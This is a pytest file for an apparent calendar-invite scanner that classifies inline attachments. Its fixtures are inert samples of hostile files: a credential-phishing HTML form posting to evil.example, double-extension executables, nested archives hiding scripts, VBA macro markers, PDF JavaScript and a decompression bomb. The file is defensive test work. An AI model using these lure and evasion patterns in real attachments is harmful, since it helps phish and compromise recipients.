"""Files people attach, and files that do things."""

from __future__ import annotations

import gzip
import io
import zipfile
from base64 import b64encode

import pytest

from calguard.engine.types import Verdict
from tests.detectors.making import attempt, codes, event, verdict_of

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"1 0 obj" * 20
HTML = b"<!doctype html><html><body><form action='https://evil.example'>Password</form></body></html>"
ZIP = b"PK\x03\x04" + b"\x00" * 60
EXE = b"MZ\x90\x00" + b"\x00" * 80


VCARD = b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ines Roth\r\nTEL:+49 30 901820\r\nEND:VCARD\r\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def packed(files: dict[str, bytes]) -> bytes:
    """A zip of these files."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return into.getvalue()


def inline(data: bytes, media_type: str, name: str) -> str:
    head = f"ATTACH;FMTTYPE={media_type};ENCODING=BASE64;VALUE=BINARY;X-FILENAME={name}"
    return f"{head}:{b64encode(data).decode()}"


@pytest.mark.requirement("R34")
@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("ATTACH:https://ines-plumbing.example/offer.pdf", set()),
        ("ATTACH;FMTTYPE=text/html:https://ines-plumbing.example/agenda.html", set()),  # a link is judged as a link
        (inline(PNG, "image/png", "map.png"), {"image_only"}),  # with "Lunch" and no other word
        (inline(VCARD, "text/vcard", "ines.vcf"), set()),
        (
            inline(b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>", "image/svg+xml", "logo.svg"),
            {"image_only"},
        ),
        (inline(packed({"word/document.xml": b"<w:p/>"}), "application/msword", "minutes.docx"), set()),
        (inline(PDF, "application/pdf", "agenda.pdf"), set()),
        (inline(ZIP, "application/zip", "photos.zip"), {"packed"}),
        (inline(HTML, "text/html", "O365_Billing_Portal_113.htm"), {"active"}),
        (inline(HTML, "image/png", "picture.png"), {"active"}),  # sniffed, not believed
        (inline(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "image/svg+xml", "logo.svg"), {"active"}),
        (inline(EXE, "application/octet-stream", "tool.bin"), {"active"}),
        (inline(PDF, "application/pdf", "invoice.pdf.exe"), {"active"}),
        (inline(packed({"invoice.html": HTML}), "application/zip", "invoice.zip"), {"active"}),
        (inline(packed({"inner.zip": packed({"pay.js": b"alert(1)"})}), "application/zip", "a.zip"), {"active"}),
        (inline(packed({"readme": HTML}), "application/zip", "a.zip"), {"active"}),
        (inline(packed({"word/document.xml": b"<w:p/>", "word/vbaProject.bin": b"x"}), "", "minutes.docx"), {"active"}),
        (inline(gzip.compress(HTML), "application/gzip", "a.gz"), {"active"}),
        (inline(gzip.compress(bytes(9_000_000)), "application/gzip", "a.gz"), {"active"}),
        (inline(PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>", "application/pdf", "a.pdf"), {"active"}),
        (inline(OLE + "_VBA_PROJECT".encode("utf-16-le"), "application/msword", "minutes.doc"), {"active"}),
        (inline(event(lines=(inline(HTML, "text/html", "a.htm"),)).raw, "text/calendar", "a.ics"), {"active"}),
    ],
)
def test_files(line: str, found: set[str]) -> None:
    made = event(lines=(line,))
    assert codes("attachments", attempt(made)) == found
    verdict = verdict_of(made).verdict
    assert verdict >= Verdict.HOLD if "active" in found else verdict <= Verdict.OBSERVE


def test_among_colleagues_files_are_their_own_business() -> None:
    made = event(lines=(inline(HTML, "text/html", "report.htm"),))
    assert not codes("attachments", attempt(made, audience={"external": 0}))


def test_a_locked_archive_is_told() -> None:
    locked = bytearray(packed({"photos/1.jpg": b"x" * 50}))
    locked[6] |= 1  # the flag of encryption in the member's header
    assert codes("attachments", attempt(event(lines=(inline(bytes(locked), "application/zip", "a.zip"),)))) == {
        "locked"
    }


def test_a_picture_beside_an_event_that_says_what_it_is() -> None:
    agenda = "We meet at the north gate, walk round the lake and have coffee at Ines and Omar's afterwards"
    made = event("Sunday walk", description=agenda, lines=(inline(PNG, "image/png", "map.png"),))
    assert codes("attachments", attempt(made)) == set()
    assert verdict_of(made).verdict is Verdict.ALLOW
